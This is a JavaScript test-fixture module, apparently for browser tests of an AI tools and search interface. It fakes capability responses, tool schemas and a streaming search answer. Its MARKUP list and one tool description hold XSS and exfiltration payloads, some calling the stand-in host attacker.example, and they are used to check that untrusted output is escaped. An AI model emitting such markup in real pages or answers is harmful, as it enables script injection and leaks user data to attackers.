// Answers that stand in for features that a build or tenant does not have, by the examples of the contract; and hostile ones.

/** Lets the tenant of the page seem to have more: `change` alters what GET /capabilities answers. */
export async function claims(page, change) {
  await page.route("**/capabilities", async (route) => {
    const answer = await route.fetch();
    if (!answer.ok()) return route.fulfill({ response: answer });
    const capabilities = await answer.json();
    change(capabilities);
    return route.fulfill({ json: capabilities });
  });
}

export const withTools = (capabilities) => {
  capabilities.features = [...new Set([...capabilities.features, "tools", "audit"])];
  capabilities.tools = ["summarize", "tag_parts"];
};

export const withSpeech = (capabilities) => {
  capabilities.features = [...new Set([...capabilities.features, "tts"])];
  capabilities.tts = { enabled: true, formats: ["wav", "pcm"] };
};

const limits = { time_ms: 10000, argument_bytes: 262144, result_bytes: 65536, calls_per_turn: 4 };
const common = { version: "1.0.0", scopes: [], side_effects: "none", data: [], limits, model_callable: true };

/** A tool for each kind of control that a form can have. */
export const TOOLS = [
  { ...common, name: "summarize", title: "Summarize", description: "Shortens a text to its most telling sentences.",
    arguments_schema: { type: "object", additionalProperties: false, required: ["text"], properties: {
      text: { type: "string", minLength: 1, maxLength: 100000, description: "What to shorten." },
      sentences: { type: "integer", minimum: 1, maximum: 20, default: 3 } } },
    result_schema: { type: "object" } },
  { ...common, name: "tag_parts", description: "Tags <b>parts</b> & <img src=x onerror=\"globalThis.hit=1\">", side_effects: "writes", data: ["documents"], scopes: ["documents:write"],
    arguments_schema: { type: "object", additionalProperties: false, required: ["tags", "mode", "dry"], $defs: { tag: { type: "string", maxLength: 40 } }, properties: {
      tags: { type: "array", items: { $ref: "#/$defs/tag" }, minItems: 1, maxItems: 5 },
      mode: { enum: ["add", "replace"], default: "replace" },
      dry: { type: "boolean", default: true },
      weight: { type: "number", minimum: 0, maximum: 1 },
      options: { type: "object", additionalProperties: false, properties: { note: { type: "string", maxLength: 100 } } },
      filter: { anyOf: [{ type: "object" }, { type: "null" }] } } },
    result_schema: { type: "object" } },
];

export const result = (tool, value) => ({ tool, version: "1.0.0", result: value, duration_ms: 4.7, request_id: "a" });

/** A second of silence as a WAV. */
export function wav() {
  const samples = 8000;
  const bytes = Buffer.alloc(44 + samples * 2);
  bytes.write("RIFF", 0);
  bytes.writeUInt32LE(36 + samples * 2, 4);
  bytes.write("WAVEfmt ", 8);
  bytes.writeUInt32LE(16, 16);
  bytes.writeUInt16LE(1, 20);
  bytes.writeUInt16LE(1, 22);
  bytes.writeUInt32LE(8000, 24);
  bytes.writeUInt32LE(16000, 28);
  bytes.writeUInt16LE(2, 32);
  bytes.writeUInt16LE(16, 34);
  bytes.write("data", 36);
  bytes.writeUInt32LE(samples * 2, 40);
  return bytes;
}

/** Markup that would run, call out or take the page over, were it taken for markup. */
export const MARKUP = [
  "<script>globalThis.hit=1</script>",
  "<img src=x onerror=\"globalThis.hit=1\">",
  "<svg onload=\"globalThis.hit=1\"><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></use></svg>",
  "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
  "<a href=\"javascript:globalThis.hit=1\">press</a>",
  "[press](javascript:globalThis.hit=1)",
  "![x](https://attacker.example/?q=canary)",
  "</p></article><meta http-equiv=refresh content=\"0;url=https://attacker.example/\">",
  "<style>@import url(https://attacker.example/x.css)</style>",
  "<form action=https://attacker.example/><input name=key autofocus></form>",
  "<base href=https://attacker.example/>",
  "<link rel=stylesheet href=https://attacker.example/x.css>",
  "{{constructor.constructor('globalThis.hit=1')()}}",
  "https://attacker.example/plain-address",
];

/** A search stream whose every text is hostile. */
export function hostileStream(texts) {
  const answer = texts.join("\n");
  const length = Buffer.byteLength(answer);
  const citation = { marker: 1, source: "hostile", chunk_id: "chk_00000000000000000000000000000000", quote: answer, chunk_span: { start: 0, end: length }, answer_span: { start: 0, end: length }, confidence: 1 };
  const whole = {
    answer: `${answer} [1]`, citations: [citation], follow_ups: texts.slice(0, 10),
    sources: [{ document_id: "hostile", title: texts[1], score: 1, chunk_ids: [], metadata: { title: texts[0] } }],
    confidence: { score: 0.9, band: "high", reasons: texts.slice(0, 16) },
    query: { original: texts[0], intent: "question", intent_score: 1, rewritten: texts[1], expansions: texts, corrections: [{ from: texts[0], to: texts[1] }] },
    cache: { hit: false, age_ms: 0, ttl_ms: 0 }, timings_ms: { total: 1, rewrite: 0, embed: 0, retrieve: 0, rerank: 0, generate: 1 },
    usage: { tokens_in: 0, tokens_out: 0, cost_usd: 0 }, request_id: "a",
  };
  const frames = [["start", { index: 0, request_id: "a" }], ["token", { index: 1, text: whole.answer }], ["citation", { index: 2, citation }],
    ["usage", { index: 3, usage: whole.usage }], ["done", { index: 4, answer: whole }]];
  return `${frames.map(([event, data]) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`).join("")}data: [DONE]\n\n`;
}
